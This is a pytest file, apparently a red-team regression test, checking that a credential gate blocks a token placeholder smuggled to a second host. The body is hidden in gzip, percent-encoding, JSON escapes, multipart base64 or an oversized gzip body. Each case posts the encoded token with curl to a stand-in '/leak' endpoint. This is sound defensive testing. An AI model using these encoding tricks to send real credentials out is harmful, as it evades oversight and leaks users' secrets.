"""Issue 13 (second look at red team 13's fixes): a request body carries the placeholder to
another host in a form the server reads back but the gate used not to: gzip'd (Content-Encoding,
which servers and frameworks decode), percent-encoded in a form (`%67hp_…`), JSON `\\u`
escapes, base64 in a multipart part (Content-Transfer-Encoding: base64), and a gzip'd body
past the 1 MiB the gate buffers. Each is denied before it leaves (or cut off mid-body) and
the step is marked; the second server's log is the oracle. Runs as root: the gate's
judgement does not depend on the step's uid."""

import json
import shutil
import zlib

import pytest

from conftest import CANARY
from gatekit import hostport, netproject, servers

pytestmark = pytest.mark.skipif(shutil.which("socat") is None or shutil.which("python3") is None,
                                reason="socat or python3 is not installed")

# Python inside the step writes the body (from $MY_TOKEN, the placeholder) to stdout.
BODIES = {
    "gzip": "import gzip,os,sys; sys.stdout.buffer.write(gzip.compress(('t='+os.environ['MY_TOKEN']).encode()))",
    "percent": "import os; t=os.environ['MY_TOKEN']; print('t=%%%02X' % ord(t[0]) + t[1:], end='')",
    "json-u": "import os; t=os.environ['MY_TOKEN']; "
              "print('{\\\"t\\\": \\\"' + ''.join(chr(92) + 'u%04x' % ord(c) for c in t) + '\\\"}', end='')",
    "multipart-b64": "import base64,os; t=os.environ['MY_TOKEN']; print('--B\\r\\nContent-Disposition: form-data; "
                     "name=\"f\"\\r\\nContent-Transfer-Encoding: base64\\r\\n\\r\\n' + "
                     "base64.b64encode(t.encode()).decode() + '\\r\\n--B--\\r\\n', end='')",
    "gzip-large": "import gzip,os,sys; sys.stdout.buffer.write(gzip.compress(os.urandom(1500000).hex().encode() + "
                  "('t='+os.environ['MY_TOKEN']).encode()))",
}
HEADERS = {"gzip": "-H 'Content-Encoding: gzip'", "gzip-large": "-H 'Content-Encoding: gzip'",
           "multipart-b64": "-H 'Content-Type: multipart/form-data; boundary=B'",
           "percent": "-H 'Content-Type: application/x-www-form-urlencoded'",
           "json-u": "-H 'Content-Type: application/json'"}


@pytest.mark.parametrize("form", list(BODIES))
def test_the_placeholder_in_an_encoded_body_is_seen(attacker, form):
    with servers() as (git, stub):
        attacker.env["MY_TOKEN"] = CANARY
        netproject(attacker, git, stub, "irreversible: []\n"      # the credential gate alone
                   f"credentials:\n  tok:\n    from: {{ env: MY_TOKEN }}\n    hosts: [\"{hostport(git)}\"]\n")
        url = f"https://{hostport(stub, 'stub.example.test')}"
        ph = attacker.run("printf %s \"$MY_TOKEN\"").stdout
        assert ph and ph != CANARY
        r = attacker.run(f"python3 -c \"{BODIES[form]}\" > /tmp/body && ls -l /tmp/body && "
                         f"curl -s -o /dev/null -w '%{{http_code}}\\n' {HEADERS[form]} "
                         f"--data-binary @/tmp/body {url}/leak")
        assert "/tmp/body" in r.stdout, r.stdout + r.stderr          # the body was made
        assert "200" not in r.stdout.split(), r.stdout
        got = [q for q in stub.requests if q["path"] == "/leak"]
        if form == "gzip-large":       # cut off mid-body: what arrived never decodes to the placeholder
            for q in got:
                assert len(q["body"]) < int(q["headers"]["content-length"]), "the whole body arrived"
                assert ph.encode() not in zlib.decompressobj(16 + zlib.MAX_WBITS).decompress(q["body"])
        else:
            assert not got, f"the second server received the body: {got}"
        s = json.loads(attacker.envgit("log", "--json", check=True).stdout)[-1]
        assert "credential-misuse" in s["marks"], (s["marks"], [(q["rule"], q["reason"]) for q in s["requests"]])
        bad = [q for q in s["requests"] if q.get("rule") == "credential-misuse"]
        assert bad and bad[0]["credential"] == "tok", s["requests"]
